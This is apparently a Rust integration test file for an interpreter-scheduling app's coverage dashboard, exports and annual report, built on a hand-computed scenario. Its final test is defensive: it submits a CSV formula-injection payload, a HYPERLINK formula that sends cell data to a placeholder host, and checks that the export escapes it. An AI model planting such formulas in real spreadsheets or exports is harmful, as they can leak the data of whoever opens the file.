//! Coverage figures against a scenario computed by hand: two volunteers of the partner
//! organisation over the two weeks around the change to summer time (Sunday 29 March 2026)
//! and Good Friday (3 April 2026).

use axum::http::StatusCode;
use sea_orm::ConnectionTrait;
use serde_json::Value;

use crate::helpers::TestApp;

/// Partner organisation (id 2): Samir Khalil (ar, apc, en) and Gül Yıldız (tr, en) in "Team
/// Nord"; the others inactive.
///
/// Samir: Mon 09:00–12:00 and Fri 09:00–11:00, daily cap 120, weekly 240.
///   W13: Mon 120 + Fri 120 = 240.     W14: Mon 120, Good Friday 0 = 120.
/// Gül: Mon 10:00–12:00 and Wed 14:00–16:00, daily cap 120, weekly 180, absent Wed 1 April.
///   W13: Mon 120 + Wed 120, held to 180.   W14: Mon 120, Wed absent = 120.
///
/// Requests (local times; UTC+1 until 29 March 02:00, UTC+2 after):
///   1 ar  Mon 23.03. 10:00–11:00  held (Samir)             booked 2 days ahead
///   2 ar  Sun 29.03. 22:00–23:00  unfilled, no eligible interpreter, fallback phone/video
///                                                           booked 1 day ahead
///   3 tr  Mon 30.03. 00:30–01:15  client no-show (Gül)     booked 3 days ahead
///         (still Sunday in UTC: a UTC week would count it in W13)
///   4 tr  Wed 01.04. 14:00–15:00  unfilled, capacity       booked 1 hour ahead
///   5 ar  Fri 03.04. 09:00–10:30  cancelled                booked 100 minutes ahead
///   6 apc Mon 30.03. 09:00–10:00  confirmed (Samir)        booked 10 hours ahead
async fn scenario(app: &TestApp) {
    let statements = [
        "UPDATE interpreter SET active = false WHERE organisation_id = 2".to_owned(),
        "DELETE FROM availability_rule WHERE interpreter_id IN (SELECT id FROM interpreter WHERE organisation_id = 2)".to_owned(),
        "DELETE FROM absence WHERE interpreter_id IN (SELECT id FROM interpreter WHERE organisation_id = 2)".to_owned(),
        volunteer("ki.dolmetscher", 120, 240),
        volunteer("ki.yildiz", 120, 180),
        window("ki.dolmetscher", 1, 9 * 60, 12 * 60),
        window("ki.dolmetscher", 5, 9 * 60, 11 * 60),
        window("ki.yildiz", 1, 10 * 60, 12 * 60),
        window("ki.yildiz", 3, 14 * 60, 16 * 60),
        format!(
            "INSERT INTO absence (interpreter_id, starts_at, ends_at, reason, created_at) \
             VALUES ({}, '2026-03-31T22:00:00+00:00', '2026-04-01T22:00:00+00:00', 'sick', '2026-03-01T00:00:00+00:00')",
            interpreter("ki.yildiz")
        ),
        appointment(1, "ar", "2026-03-23T09:00:00+00:00", "2026-03-23T10:00:00+00:00", "2026-03-23", 202613, 60, 2880, "held", None, None),
        appointment(2, "ar", "2026-03-29T20:00:00+00:00", "2026-03-29T21:00:00+00:00", "2026-03-29", 202613, 60, 1440, "fallback", Some("no_eligible_interpreter"), Some("phone_video_service")),
        appointment(3, "tr", "2026-03-29T22:30:00+00:00", "2026-03-29T23:15:00+00:00", "2026-03-30", 202614, 45, 4320, "client_no_show", None, None),
        appointment(4, "tr", "2026-04-01T12:00:00+00:00", "2026-04-01T13:00:00+00:00", "2026-04-01", 202614, 60, 60, "unfilled", Some("capacity"), None),
        appointment(5, "ar", "2026-04-03T07:00:00+00:00", "2026-04-03T08:30:00+00:00", "2026-04-03", 202614, 90, 100, "cancelled", None, None),
        appointment(6, "apc", "2026-03-30T07:00:00+00:00", "2026-03-30T08:00:00+00:00", "2026-03-30", 202614, 60, 600, "confirmed", None, None),
        assignment(1, "ki.dolmetscher"),
        assignment(3, "ki.yildiz"),
        assignment(6, "ki.dolmetscher"),
    ];
    for n in 1..=7 {
        app.db
            .execute_unprepared(&format!(
                "INSERT INTO client (organisation_id, reference, created_at, updated_at) \
                 VALUES (2, 'KI-{n}', '2026-03-01T00:00:00+00:00', '2026-03-01T00:00:00+00:00')"
            ))
            .await
            .unwrap();
    }
    for sql in statements {
        app.db.execute_unprepared(&sql).await.unwrap_or_else(|e| panic!("{sql}: {e}"));
    }
}

fn interpreter(username: &str) -> String {
    format!(
        "(SELECT i.id FROM interpreter i JOIN app_user u ON u.id = i.user_id WHERE u.username = '{username}')"
    )
}

fn volunteer(username: &str, daily: i32, weekly: i32) -> String {
    format!(
        "UPDATE interpreter SET active = true, daily_cap_minutes = {daily}, weekly_cap_minutes = {weekly}, \
         home_team = 'Team Nord', works_on_holidays = false WHERE id = {}",
        interpreter(username)
    )
}

fn window(username: &str, weekday: i32, start: i32, end: i32) -> String {
    format!(
        "INSERT INTO availability_rule (interpreter_id, weekday, start_minute, end_minute, remote_only, timezone, created_at) \
         VALUES ({}, {weekday}, {start}, {end}, false, 'Europe/Berlin', '2026-03-01T00:00:00+00:00')",
        interpreter(username)
    )
}

#[allow(clippy::too_many_arguments)]
fn appointment(
    n: i32,
    language: &str,
    start: &str,
    end: &str,
    local_date: &str,
    week: i32,
    minutes: i32,
    lead: i32,
    status: &str,
    reason: Option<&str>,
    fallback: Option<&str>,
) -> String {
    let text = |v: Option<&str>| v.map_or("NULL".to_owned(), |v| format!("'{v}'"));
    format!(
        "INSERT INTO appointment (organisation_id, caseworker_id, client_id, language_id, min_level, starts_at, ends_at, mode, kind, priority, sensitive, status, unfilled_reason, fallback_kind, version, created_at, updated_at, local_date, local_week, duration_minutes, lead_minutes) \
         VALUES (2, (SELECT id FROM app_user WHERE username = 'ki.fachkraft'), (SELECT id FROM client WHERE reference = 'KI-{n}'), \
         (SELECT id FROM language WHERE organisation_id = 2 AND tag = '{language}'), 'B1', '{start}', '{end}', 'phone', 'counselling', 3, false, \
         '{status}', {}, {}, 0, '2026-03-01T00:00:00+00:00', '2026-03-01T00:00:00+00:00', '{local_date}', {week}, {minutes}, {lead})",
        text(reason),
        text(fallback)
    )
}

fn assignment(n: i32, username: &str) -> String {
    format!(
        "INSERT INTO assignment (organisation_id, appointment_id, interpreter_id, status, version, created_at, updated_at) \
         VALUES (2, (SELECT a.id FROM appointment a JOIN client c ON c.id = a.client_id WHERE c.reference = 'KI-{n}'), {}, 'confirmed', 0, \
         '2026-03-01T00:00:00+00:00', '2026-03-01T00:00:00+00:00')",
        interpreter(username)
    )
}

fn group<'a>(body: &'a Value, key: &str) -> &'a Value {
    body["groups"]
        .as_array()
        .unwrap()
        .iter()
        .find(|g| g["key"] == key)
        .unwrap_or_else(|| panic!("no group {key} in {body}"))
}

const PERIOD: &str = "from=2026-03-23&to=2026-04-05";

#[tokio::test]
async fn figures_by_language_match_the_hand_computed_scenario() {
    let app = TestApp::spawn().await;
    scenario(&app).await;
    let lead = app.login("ki.teamleitung").await;
    let answer = app.get(&format!("/api/v1/coverage?{PERIOD}&group_by=language"), &lead).await;
    assert_eq!(answer.status, StatusCode::OK, "{}", answer.text);
    let body = &answer.body;

    let ar = group(body, "ar");
    assert_eq!(ar["label"], "Arabisch");
    assert_eq!(ar["requests"], 2);
    assert_eq!(ar["requested_minutes"], 120);
    assert_eq!(ar["offered_minutes"], 360);
    assert_eq!(ar["filled"], 1);
    assert_eq!(ar["fill_rate"], 0.5);
    assert_eq!(ar["held"], 1);
    assert_eq!(ar["cancelled"], 1);
    assert_eq!(ar["unfilled"]["no_eligible_interpreter"], 1);
    assert_eq!(ar["fallbacks"]["phone_video_service"], 1);
    assert_eq!(ar["median_lead_hours"], 36.0);

    let tr = group(body, "tr");
    assert_eq!(tr["requests"], 2);
    assert_eq!(tr["requested_minutes"], 105);
    assert_eq!(tr["offered_minutes"], 300);
    assert_eq!(tr["filled"], 1);
    assert_eq!(tr["no_shows"], 1);
    assert_eq!(tr["unfilled"]["capacity"], 1);
    assert_eq!(tr["median_lead_hours"], 36.5);

    // Levantine Arabic: Samir speaks it, and speakers of Arabic cover it.
    let apc = group(body, "apc");
    assert_eq!(apc["requests"], 1);
    assert_eq!(apc["confirmed"], 1);
    assert_eq!(apc["offered_minutes"], 360);
    assert_eq!(apc["median_lead_hours"], 10.0);

    let total = &body["total"];
    assert_eq!(total["requests"], 5);
    assert_eq!(total["requested_minutes"], 285);
    assert_eq!(total["filled"], 3);
    assert_eq!(total["fill_rate"], 0.6);
    assert_eq!(total["cancelled"], 1);
    assert_eq!(total["offered_minutes"], 660);
    assert_eq!(total["median_lead_hours"], 24.0);

    // Loads over the 14 days: Samir 60 + 60 of a cap of 480, Gül 45 of 360.
    let volunteers = body["volunteers"].as_array().unwrap();
    let samir = volunteers.iter().find(|v| v["display_name"] == "Samir Khalil").unwrap();
    assert_eq!(samir["confirmed_minutes"], 120);
    assert_eq!(samir["cap_minutes"], 480);
    assert_eq!(samir["share_of_cap"], 0.25);
    let gul = volunteers.iter().find(|v| v["display_name"] == "Gül Yıldız").unwrap();
    assert_eq!(gul["confirmed_minutes"], 45);
    assert_eq!(gul["share_of_cap"], 0.125);
    let share = samir["share_of_team"].as_f64().unwrap();
    assert!((share - 120.0 / 165.0).abs() < 1e-9, "{share}");
    assert_eq!(volunteers.len(), 2, "inactive volunteers are not in the pool");
    assert_eq!(body["teams"][0]["home_team"], "Team Nord");
    assert_eq!(body["teams"][0]["confirmed_minutes"], 165);
}

#[tokio::test]
async fn figures_by_week_follow_the_local_calendar() {
    let app = TestApp::spawn().await;
    scenario(&app).await;
    let lead = app.login("ki.teamleitung").await;
    let answer = app.get(&format!("/api/v1/coverage?{PERIOD}&group_by=week"), &lead).await;
    assert_eq!(answer.status, StatusCode::OK, "{}", answer.text);
    let w13 = group(&answer.body, "2026-W13");
    assert_eq!(w13["requests"], 2);
    assert_eq!(w13["requested_minutes"], 120);
    assert_eq!(w13["offered_minutes"], 420);
    // The no-show at 00:30 on Monday counts in the week of its local date.
    let w14 = group(&answer.body, "2026-W14");
    assert_eq!(w14["requests"], 3);
    assert_eq!(w14["requested_minutes"], 165);
    assert_eq!(w14["no_shows"], 1);
    // Good Friday and Gül's absence leave 240 minutes.
    assert_eq!(w14["offered_minutes"], 240);
    assert_eq!(answer.body["groups"].as_array().unwrap().len(), 2);
}

#[tokio::test]
async fn figures_by_kind_and_site() {
    let app = TestApp::spawn().await;
    scenario(&app).await;
    let lead = app.login("ki.teamleitung").await;
    let by_kind = app.get(&format!("/api/v1/coverage?{PERIOD}&group_by=kind"), &lead).await;
    let counselling = group(&by_kind.body, "counselling");
    assert_eq!(counselling["requests"], 5);
    assert_eq!(counselling["offered_minutes"], Value::Null);
    // Every request of the scenario is by phone: no site's figures, and no site's supply for
    // the phone group.
    let by_site = app.get(&format!("/api/v1/coverage?{PERIOD}&group_by=site"), &lead).await;
    assert_eq!(group(&by_site.body, "remote")["requests"], 5);
    assert_eq!(group(&by_site.body, "remote")["offered_minutes"], Value::Null);
    assert_eq!(group(&by_site.body, "zentrum")["offered_minutes"], 360);
    assert_eq!(group(&by_site.body, "nord")["offered_minutes"], 300);
    let at_nord = app.get(&format!("/api/v1/coverage?{PERIOD}&site=nord"), &lead).await;
    assert_eq!(at_nord.status, StatusCode::OK, "{}", at_nord.text);
    assert_eq!(at_nord.body["total"]["requests"], 0);
    assert_eq!(at_nord.body["total"]["offered_minutes"], 300);
}

#[tokio::test]
async fn only_team_leads_see_coverage_and_only_their_own() {
    let app = TestApp::spawn().await;
    scenario(&app).await;
    for user in ["ki.fachkraft", "ki.dolmetscher", "ki.admin"] {
        app.get(&format!("/api/v1/coverage?{PERIOD}"), &app.login(user).await)
            .await
            .assert_problem(403, None);
    }
    let anonymous =
        app.call(axum::http::Method::GET, &format!("/api/v1/coverage?{PERIOD}"), None, None).await;
    assert_eq!(anonymous.status, StatusCode::UNAUTHORIZED);
    // The Jobcenter's team lead sees the Jobcenter's figures: none of the partner's requests.
    let other =
        app.get(&format!("/api/v1/coverage?{PERIOD}"), &app.login("teamleitung").await).await;
    assert_eq!(other.status, StatusCode::OK);
    assert_eq!(other.body["total"]["requests"], 0);
    assert!(
        other.body["volunteers"]
            .as_array()
            .unwrap()
            .iter()
            .all(|v| v["display_name"] != "Samir Khalil")
    );
}

#[tokio::test]
async fn a_bad_period_site_or_grouping_names_the_field() {
    let app = TestApp::spawn().await;
    let lead = app.login("teamleitung").await;
    for (query, field) in [
        ("from=2026-04-05&to=2026-03-23", "to"),
        ("from=2024-01-01&to=2026-12-31", "to"),
        ("from=2026-03-23&to=2026-04-05&site=atlantis", "site"),
        ("from=2026-03-23&to=2026-04-05&group_by=colour", "group_by"),
        ("from=2026-03-23", "to"),
    ] {
        let answer = app.get(&format!("/api/v1/coverage?{query}"), &lead).await;
        assert!(answer.status.is_client_error(), "{query}: {}", answer.status);
        assert!(answer.body["errors"].get(field).is_some(), "{query}: {}", answer.text);
    }
}

#[tokio::test]
async fn the_outlook_names_the_languages_that_will_fall_short() {
    use sprachpool::auth::Caller;
    use sprachpool::domain::{Locale, Role};
    use sprachpool::services::coverage::outlook::outlook;

    let app = TestApp::spawn().await;
    scenario(&app).await;
    // Four hours of Farsi asked for in March; nobody speaks it.
    app.db
        .execute_unprepared(&appointment(
            7,
            "fa",
            "2026-03-25T08:00:00+00:00",
            "2026-03-25T12:00:00+00:00",
            "2026-03-25",
            202613,
            240,
            60,
            "unfilled",
            Some("no_speaker"),
            None,
        ))
        .await
        .unwrap();
    let lead = Caller {
        user_id: 0,
        organisation_id: 2,
        username: "ki.teamleitung".into(),
        display_name: String::new(),
        locale: Locale::De,
        roles: vec![Role::TeamLead],
        session_id: 0,
    };
    // Easter Monday 2026: the twelve weeks before hold the whole scenario.
    let today = chrono::NaiveDate::from_ymd_opt(2026, 4, 6).unwrap();
    let seen = outlook(&app.db, &lead, today).await.unwrap();
    let of = |tag: &str| {
        seen.languages.iter().find(|l| l.language == tag).unwrap_or_else(|| panic!("{tag}"))
    };
    assert_eq!(seen.languages[0].language, "fa");
    assert_eq!(of("fa").expected_minutes, 80);
    assert_eq!(of("fa").offered_minutes, 0);
    assert_eq!(of("fa").shortfall_hours, 1.3);
    // Arabic: 120 minutes in twelve weeks, 40 expected in four. Samir offers his Mondays and
    // Fridays from 6 April to 3 May except Easter Monday and 1 May: 6 × 120.
    assert_eq!(of("ar").expected_minutes, 40);
    assert_eq!(of("ar").offered_minutes, 720);
    assert_eq!(of("ar").shortfall_hours, 0.0);
    // Gül: Mondays and Wednesdays, 180 a week at most, Easter Monday off: 120 + 180 + 180 + 180.
    assert_eq!(of("tr").offered_minutes, 660);
    let volunteer = Caller { roles: vec![Role::Volunteer], ..lead };
    assert!(outlook(&app.db, &volunteer, today).await.is_err());
}

#[tokio::test]
async fn the_dashboard_shows_charts_and_tables_and_its_workbook_holds_the_same_numbers() {
    use calamine::{Data, DataType, Reader, Xlsx};
    let app = TestApp::spawn().await;
    scenario(&app).await;
    let mut browser = crate::web::Browser::new(&app);
    browser.log_in("ki.teamleitung").await;
    let page = browser.get(&format!("/dashboard?{PERIOD}&group_by=language")).await;
    assert_eq!(page.status, StatusCode::OK, "{}", page.text);
    assert_eq!(page.text.matches(r#"role="img""#).count(), 3, "three charts");
    assert!(page.text.contains("<desc id=\"demand-desc\">"));
    assert!(page.text.contains("Arabisch"));
    assert!(page.text.contains("2026-W14"));

    let api = app
        .get(
            &format!("/api/v1/coverage?{PERIOD}&group_by=language"),
            &app.login("ki.teamleitung").await,
        )
        .await;
    let download = browser.get(&format!("/dashboard/export.xlsx?{PERIOD}&group_by=language")).await;
    assert_eq!(download.status, StatusCode::OK);
    assert_eq!(
        download.headers[axum::http::header::CONTENT_TYPE],
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    );
    let mut workbook =
        Xlsx::new(std::io::Cursor::new(download.bytes.clone())).expect("the XLSX opens");
    assert_eq!(workbook.sheet_names(), vec!["groups", "weeks", "volunteers", "outlook"]);
    let groups = workbook.worksheet_range("groups").unwrap();
    let header: Vec<String> = groups.rows().nth(2).unwrap().iter().map(|c| c.to_string()).collect();
    assert_eq!(header[0], "Sprache");
    let requests_col = header.iter().position(|h| h == "Anfragen").unwrap();
    let hours_col = header.iter().position(|h| h == "Angefragt (Std.)").unwrap();
    let rate_col = header.iter().position(|h| h == "Besetzungsquote").unwrap();
    for g in api.body["groups"].as_array().unwrap() {
        let row = groups
            .rows()
            .find(|r| r[0] == Data::String(g["label"].as_str().unwrap().to_owned()))
            .unwrap_or_else(|| panic!("no row for {}", g["label"]));
        assert_eq!(row[requests_col].as_f64(), g["requests"].as_f64(), "{}", g["label"]);
        let minutes = g["requested_minutes"].as_f64().unwrap();
        assert!((row[hours_col].as_f64().unwrap() - minutes / 60.0).abs() < 1e-9, "{}", g["label"]);
        assert_eq!(row[rate_col].as_f64(), g["fill_rate"].as_f64(), "{}", g["label"]);
    }
    let csv = browser.get(&format!("/dashboard/export.csv?table=volunteers&{PERIOD}")).await;
    assert_eq!(csv.status, StatusCode::OK);
    assert!(csv.text.contains("Samir Khalil;Team Nord;2.0;"), "{}", csv.text);
}

#[tokio::test]
async fn the_dashboard_is_for_team_leads_and_explains_a_bad_period() {
    let app = TestApp::spawn().await;
    let mut browser = crate::web::Browser::new(&app);
    browser.log_in("fachkraft").await;
    assert_eq!(browser.get("/dashboard").await.status, StatusCode::FORBIDDEN);
    assert_eq!(browser.get("/dashboard/export.xlsx").await.status, StatusCode::FORBIDDEN);
    let mut lead = crate::web::Browser::new(&app);
    lead.log_in("teamleitung").await;
    let page = lead.get("/dashboard").await;
    assert_eq!(page.status, StatusCode::OK, "{}", page.text);
    let backwards = lead.get("/dashboard?from=2026-05-01&to=2026-04-01").await;
    assert_eq!(backwards.status, StatusCode::UNPROCESSABLE_ENTITY);
    assert!(backwards.text.contains("href=\"#to\""), "{}", backwards.text);
}

#[tokio::test]
async fn the_annual_report_holds_the_years_aggregates_and_nothing_personal() {
    use axum::http::Method;
    use calamine::{Data, DataType, Reader, Xlsx};
    let app = TestApp::spawn().await;
    scenario(&app).await;
    let lead = app.login("ki.teamleitung").await;
    let training = serde_json::json!({
        "title": "Interkulturelle Kommunikation", "starts_on": "2026-06-01", "ends_on": "2026-06-01", "hours": 6,
        "trainer": null, "participants": [{ "department": "Leistung", "participants": 12 }, { "department": "Eingangszone", "participants": 7 }]
    });
    assert_eq!(
        app.call(Method::POST, "/api/v1/trainings", Some(&lead), Some(training)).await.status,
        StatusCode::CREATED
    );
    let measures = serde_json::json!({ "text": "Zwei neue Sprachen im Pool; Kooperation mit dem IQ Netzwerk." });
    assert_eq!(
        app.call(Method::PUT, "/api/v1/reports/2026/measures", Some(&lead), Some(measures))
            .await
            .status,
        StatusCode::NO_CONTENT
    );

    let report = app.get("/api/v1/reports/2026", &lead).await;
    assert_eq!(report.status, StatusCode::OK, "{}", report.text);
    let r = &report.body;
    assert_eq!(r["volunteers"], 2);
    let i = &r["interpreting"];
    assert_eq!(i["requests"], 5);
    assert_eq!(i["held"], 1);
    assert_eq!(i["hours_held"], 1.0);
    assert_eq!(i["no_shows"], 1);
    assert_eq!(i["cancelled"], 1);
    assert_eq!(i["fill_rate"], 0.6);
    assert_eq!(i["unfilled"]["capacity"], 1);
    assert_eq!(i["fallbacks"]["phone_video_service"], 1);
    assert_eq!(r["trainings"]["trainings"], 1);
    assert_eq!(r["trainings"]["participants"], 19);
    let english = r["languages"].as_array().unwrap().iter().find(|l| l["key"] == "en").unwrap();
    assert_eq!(english["count"], 2, "both volunteers speak English");
    assert!(r["measures"].as_str().unwrap().starts_with("Zwei neue Sprachen"));
    // Nothing about a client or a volunteer.
    for personal in ["KI-1", "Samir", "Yıldız", "ki.fachkraft"] {
        assert!(!report.text.contains(personal), "{personal} in the report");
    }

    let mut browser = crate::web::Browser::new(&app);
    browser.log_in("ki.teamleitung").await;
    let page = browser.get("/report?year=2026").await;
    assert_eq!(page.status, StatusCode::OK, "{}", page.text);
    let html = browser.get("/report/download?year=2026&format=html").await;
    assert!(html.text.contains("Jahresbericht 2026"));
    assert!(!html.text.contains("Samir"));
    let download = browser.get("/report/download?year=2026&format=xlsx").await;
    let mut workbook =
        Xlsx::new(std::io::Cursor::new(download.bytes.clone())).expect("the XLSX opens");
    let summary = workbook.worksheet_range("summary").unwrap();
    let value = |label: &str| {
        summary
            .rows()
            .find(|row| row[0] == Data::String(label.to_owned()))
            .and_then(|row| row[1].as_f64())
            .unwrap_or_else(|| panic!("no {label}"))
    };
    assert_eq!(value("Dolmetschanfragen (ohne Stornierungen)"), 5.0);
    assert_eq!(value("Durchgeführte Einsätze"), 1.0);
    assert_eq!(value("Besetzungsquote"), 0.6);
    assert_eq!(value("Teilnehmende an Schulungen"), 19.0);

    app.get("/api/v1/reports/2026", &app.login("ki.fachkraft").await)
        .await
        .assert_problem(403, None);
    app.get("/api/v1/reports/1999", &lead).await.assert_problem(422, Some("year"));
    let long = serde_json::json!({ "text": "x".repeat(20_001) });
    app.call(Method::PUT, "/api/v1/reports/2026/measures", Some(&lead), Some(long))
        .await
        .assert_problem(422, Some("text"));
}

#[tokio::test]
async fn a_volunteers_text_reaches_the_team_leads_csv_as_text_not_as_a_formula() {
    use axum::http::Method;
    let app = TestApp::spawn().await;
    let volunteer = app.login("dolmetscher").await;
    let formula = "=HYPERLINK(\"http://example.invalid/?\"&A1,\"Details\")";
    let changed = app
        .call(
            Method::PATCH,
            "/api/v1/me/profile",
            Some(&volunteer),
            Some(serde_json::json!({ "home_team": formula })),
        )
        .await;
    assert_eq!(changed.status, StatusCode::OK, "{}", changed.text);
    let mut lead = crate::web::Browser::new(&app);
    lead.log_in("teamleitung").await;
    let csv = lead.get("/dashboard/export.csv?table=volunteers").await;
    assert_eq!(csv.status, StatusCode::OK, "{}", csv.text);
    let mut reader = ::csv::ReaderBuilder::new()
        .delimiter(b';')
        .from_reader(csv.text.trim_start_matches('\u{feff}').as_bytes());
    let teams: Vec<String> =
        reader.records().filter_map(Result::ok).map(|r| r[1].to_owned()).collect();
    assert!(teams.contains(&format!("'{formula}")), "{teams:?}");
    assert!(!teams.iter().any(|t| t.starts_with('=')), "{teams:?}");
}
